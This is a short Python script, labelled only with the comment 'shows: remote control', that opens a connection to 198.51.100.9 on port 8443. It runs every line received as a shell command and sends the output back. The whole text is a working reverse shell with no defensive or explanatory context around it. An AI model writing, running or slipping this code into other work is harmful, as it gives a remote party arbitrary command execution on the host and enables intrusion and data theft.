# shows: remote control
import socket, subprocess

c = socket.create_connection(("198.51.100.9", 8443))
while True:
    line = c.recv(1024).decode().strip()
    if not line:
        break
    out = subprocess.run(line, shell=True, capture_output=True)
    c.send(out.stdout)
